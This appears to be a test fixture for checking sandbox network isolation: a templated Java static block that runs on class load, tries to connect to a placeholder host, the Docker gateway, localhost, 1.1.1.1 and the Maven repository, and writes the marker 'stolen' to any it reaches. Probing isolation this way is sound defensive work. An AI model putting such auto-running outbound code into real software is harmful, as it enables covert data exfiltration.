// Tries to reach the machine around it and the world: by address and by name.
static {
    System.out.println("attack: network");
    for (String host : new String[] {"@HOST@", "172.17.0.1", "127.0.0.1", "1.1.1.1", "repo.maven.apache.org"}) {
        try (java.net.Socket socket = new java.net.Socket()) {
            socket.connect(new java.net.InetSocketAddress(host, @PORT@), 500);
            socket.getOutputStream().write("stolen".getBytes());
            System.out.println("attack: reached " + host);
        } catch (Exception unreachable) {
            System.out.println("attack: no way to " + host);
        }
    }
}
